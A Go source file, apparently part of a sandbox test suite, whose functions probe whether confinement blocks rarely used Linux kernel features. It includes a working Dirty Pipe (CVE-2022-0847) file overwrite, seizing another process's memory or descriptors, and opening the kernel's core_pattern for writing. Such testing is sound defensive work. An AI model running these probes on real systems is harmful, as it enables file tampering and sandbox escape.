// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"bytes"
	"os"
	"path/filepath"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Attacks by rarely used parts of the kernel. Each has had holes, or hands a
// program something that its walls do not know.
var linuxRare = []Attack{
	{Name: "dirty-pipe", Area: "files", Aim: "change a granted file in the kernel's cache by way of a pipe", try: dirtyPipe},
	{Name: "list-mounts", Area: "files", Aim: "learn the machine's paths from the newer calls about mounts", try: listMounts},
	{Name: "file-flags", Area: "files", Aim: "make a file that nobody can remove", try: fileFlags},
	{Name: "make-fifo", Area: "files", Aim: "leave a pipe with a name, on which a reader waits for ever", try: makeFIFO},
	{Name: "watch-grant", Area: "files", Aim: "hold up others' opens of a granted file, or hear of them", try: watchGrant},
	{Name: "new-terminal", Area: "descriptors", Aim: "make a terminal of its own", try: newTerminal},
	{Name: "peer-handle", Area: "descriptors", Aim: "take hold of the process at the other end of a socket", try: peerHandle},
	{Name: "socket-program", Area: "descriptors", Aim: "attach a program to a socket", try: socketProgram},
	{Name: "trace-me", Area: "processes", Aim: "have its parent trace it, and stop with it", try: call(unix.SYS_PTRACE, unix.PTRACE_TRACEME)},
	{Name: "process-options", Area: "processes", Aim: "change what others may do to it, or adopt orphans", try: processOptions},
	{Name: "release-memory", Area: "processes", Aim: "take the memory of another process", try: releaseMemory},
	{Name: "deadline-scheduler", Area: "privileges", Aim: "take the processor before all others", try: deadlineScheduler},
	{Name: "disk-priority", Area: "privileges", Aim: "take the disk before all others", try: diskPriority},
	{Name: "better-nice", Area: "privileges", Aim: "run before others that are as nice", try: betterNice},
	{Name: "fuse", Area: "namespaces", Aim: "serve a file system whose reader waits for ever", try: openDevice("/dev/fuse")},
	{Name: "secret-memory", Area: "kernel", Aim: "have memory that not even the kernel sees", try: call(unix.SYS_MEMFD_SECRET)},
	{Name: "own-listener", Area: "kernel", Aim: "answer its own calls in the place of the host", try: ownListener},
	{Name: "join-keyring", Area: "kernel", Aim: "join a session of keys by its name", try: joinKeyring},
	{Name: "core-pattern", Area: "kernel", Aim: "name the program that the kernel starts at a crash", try: corePattern},
	{Name: "gift-pages", Area: "kernel", Aim: "give pages of its memory to a pipe", try: giftPages},
	{Name: "virtual-machine", Area: "kernel", Aim: "run a machine of its own beside the kernel", try: openDevice("/dev/kvm")},
}

// dirtyPipe is CVE-2022-0847: what is written to a pipe that holds a page of a
// file is written to that page.
func dirtyPipe(s *Scene) Outcome {
	before, err := os.ReadFile(s.GrantProg)
	if err != nil {
		return missed(plain(err))
	}
	f, err := os.Open(s.GrantProg)
	if err != nil {
		return missed(plain(err))
	}
	defer f.Close()
	var pipe [2]int
	if err := unix.Pipe2(pipe[:], unix.O_NONBLOCK); err != nil {
		return missed(plain(err))
	}
	for range 16 { // each buffer was used once
		_, _ = unix.Write(pipe[1], make([]byte, 4096))
		_, _ = unix.Read(pipe[0], make([]byte, 4096))
	}
	var at int64
	if _, err := unix.Splice(int(f.Fd()), &at, pipe[1], nil, 1, 0); err != nil {
		return missed(plain(err))
	}
	_, _ = unix.Write(pipe[1], []byte("dirty"))
	after, err := os.ReadFile(s.GrantProg)
	if err == nil && bytes.Equal(before, after) {
		return missed("the file is as it was")
	}
	return attempt(err, "changed "+s.GrantProg)
}

// The newer calls about mounts have the same numbers on all architectures.
const (
	callStatMount, callListMount = 457, 458
	callSetFileAttributes        = 469
)

func listMounts(*Scene) Outcome {
	request := [4]uint64{24, ^uint64(0)} // struct mnt_id_req of the first version; the root's mounts
	var ids [64]uint64
	n, _, errno := unix.RawSyscall6(callListMount, uintptr(unsafe.Pointer(&request)), uintptr(unsafe.Pointer(&ids)), uintptr(len(ids)), 0, 0, 0)
	if errno == 0 && n == 0 {
		return missed("none")
	}
	_, _, stat := unix.RawSyscall6(callStatMount, uintptr(unsafe.Pointer(&request)), uintptr(unsafe.Pointer(&ids)), unsafe.Sizeof(ids), 0, 0, 0)
	return attempts(allowed(errno), allowed(stat))
}

func fileFlags(*Scene) Outcome {
	const immutable = 0x10
	name := filepath.Join(scratch(), "immutable")
	f, err := os.Create(name)
	if err != nil {
		return missed(plain(err))
	}
	defer f.Close()
	path, attributes := append([]byte(name), 0), [4]uint64{0x8} // FS_XFLAG_IMMUTABLE
	_, _, errno := unix.RawSyscall6(callSetFileAttributes, ^uintptr(99), pointer(path), uintptr(unsafe.Pointer(&attributes)), 24, 0, 0)
	flags := unix.IoctlSetPointerInt(int(f.Fd()), unix.FS_IOC_SETFLAGS, immutable)
	_ = unix.IoctlSetPointerInt(int(f.Fd()), unix.FS_IOC_SETFLAGS, 0) // somebody has to remove it
	return attempts(attempt(flags, "made it immutable"), attempt(failure(errno), "made it immutable"))
}

func makeFIFO(*Scene) Outcome {
	return attempt(unix.Mkfifo(filepath.Join(scratch(), "fifo"), 0o600), "made one")
}

func watchGrant(s *Scene) Outcome {
	file, err := unix.Open(s.GrantProg, unix.O_RDONLY, 0)
	if err != nil {
		return missed(plain(err))
	}
	defer unix.Close(file)
	dir, err := unix.Open(s.Grant, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return missed(plain(err))
	}
	defer unix.Close(dir)
	const created = 4 // DN_CREATE
	_, lease := unix.FcntlInt(uintptr(file), unix.F_SETLEASE, unix.F_RDLCK)
	_, notify := unix.FcntlInt(uintptr(dir), unix.F_NOTIFY, created)
	return attempts(attempt(lease, "has a lease"), attempt(notify, "hears of changes"))
}

func newTerminal(*Scene) Outcome {
	return attempts(openDevice("/dev/ptmx")(nil), openDevice("/dev/pts/ptmx")(nil))
}

// openDevice is a hit when a device can be opened at all.
func openDevice(name string) func(*Scene) Outcome {
	return func(*Scene) Outcome {
		fd, err := unix.Open(name, unix.O_RDWR|unix.O_NOCTTY, 0)
		if err == nil {
			_ = unix.Close(fd)
		}
		return attempt(err, "opened "+name)
	}
}

// peerHandle asks a socket for its peer. Here that is the program itself; over
// the socket that it serves on it is the host.
func peerHandle(*Scene) Outcome {
	const peerPIDFD = 77
	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		return missed(plain(err))
	}
	fd, err := unix.GetsockoptInt(pair[0], unix.SOL_SOCKET, peerPIDFD)
	if err != nil {
		return missed(plain(err))
	}
	defer unix.Close(fd)
	copied, taken := unix.PidfdGetfd(fd, 0, 0)
	if taken == nil {
		_ = unix.Close(copied)
	}
	_, info := unix.IoctlGetInt(fd, 0xc000_ff0b) // PIDFD_GET_INFO, of no size
	if info == unix.EINVAL || info == unix.EFAULT {
		info = nil // it was understood
	}
	return attempts(
		attempt(unix.PidfdSendSignal(fd, 0, nil, 0), "may signal it"), attempt(taken, "took a descriptor of it"),
		attempt(info, "learnt about it"), attempt(unix.Setns(fd, unix.CLONE_NEWNET), "entered its namespace"),
	)
}

func socketProgram(*Scene) Outcome {
	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		return missed(plain(err))
	}
	program := []unix.SockFilter{{Code: unix.BPF_RET | unix.BPF_K, K: 0xffff}}
	return attempt(unix.SetsockoptSockFprog(pair[0], unix.SOL_SOCKET, unix.SO_ATTACH_FILTER, &unix.SockFprog{Len: 1, Filter: &program[0]}), "attached it")
}

func processOptions(*Scene) Outcome {
	var ways []Outcome
	for _, o := range [][2]uintptr{
		{unix.PR_SET_DUMPABLE, 1}, {unix.PR_SET_PTRACER, ^uintptr(0)}, {unix.PR_SET_CHILD_SUBREAPER, 1}, {unix.PR_SET_KEEPCAPS, 0},
	} {
		_, _, errno := unix.RawSyscall6(unix.SYS_PRCTL, o[0], o[1], 0, 0, 0, 0)
		ways = append(ways, attempt(failure(errno), "changed it"))
	}
	return attempts(ways...)
}

func releaseMemory(s *Scene) Outcome {
	if absent(s) {
		return missed("no victim in sight")
	}
	fd, err := unix.PidfdOpen(s.VictimPID, 0)
	if err != nil {
		return missed(plain(err))
	}
	defer unix.Close(fd)
	_, _, errno := unix.RawSyscall(unix.SYS_PROCESS_MRELEASE, uintptr(fd), 0, 0)
	return allowed(errno)
}

func deadlineScheduler(*Scene) Outcome {
	const ms = 1_000_000
	return attempt(unix.SchedSetAttr(0, &unix.SchedAttr{
		Size: unix.SizeofSchedAttr, Policy: unix.SCHED_DEADLINE, Runtime: 5 * ms, Deadline: 10 * ms, Period: 10 * ms,
	}, 0), "runs with a deadline")
}

func diskPriority(*Scene) Outcome {
	const process, realTime = 1, 1 << 13
	_, _, errno := unix.RawSyscall(unix.SYS_IOPRIO_SET, process, 0, realTime)
	return attempt(failure(errno), "goes first")
}

func betterNice(*Scene) Outcome {
	now, err := unix.Getpriority(unix.PRIO_PROCESS, 0) // 20 less the niceness
	if err != nil {
		return missed(plain(err))
	}
	if err := unix.Setpriority(unix.PRIO_PROCESS, 0, 20-now-1); err != nil {
		return missed("as nice as before, then " + plain(err))
	}
	return Outcome{true, "is less nice"}
}

func ownListener(*Scene) Outcome {
	const newListener = 1 << 3
	program := []unix.SockFilter{{Code: unix.BPF_RET | unix.BPF_K, K: unix.SECCOMP_RET_ALLOW}}
	fd, _, errno := unix.RawSyscall(unix.SYS_SECCOMP, unix.SECCOMP_SET_MODE_FILTER, newListener, uintptr(unsafe.Pointer(&unix.SockFprog{Len: 1, Filter: &program[0]})))
	if errno == 0 {
		_ = unix.Close(int(fd))
	}
	return attempt(failure(errno), "listens to its calls")
}

func joinKeyring(*Scene) Outcome {
	_, err := unix.KeyctlJoinSessionKeyring("bulkhead-attack")
	return attempt(err, "joined one")
}

func corePattern(*Scene) Outcome {
	f, err := os.OpenFile("/proc/sys/kernel/core_pattern", os.O_WRONLY, 0)
	if err == nil {
		_ = f.Close()
	}
	return attempt(err, "may name it")
}

func giftPages(*Scene) Outcome {
	const gift = 8
	var pipe [2]int
	if err := unix.Pipe(pipe[:]); err != nil {
		return missed(plain(err))
	}
	var page [8]byte
	_, err := unix.Vmsplice(pipe[1], []unix.Iovec{{Base: &page[0], Len: uint64(len(page))}}, gift)
	return attempt(err, "gave a page")
}
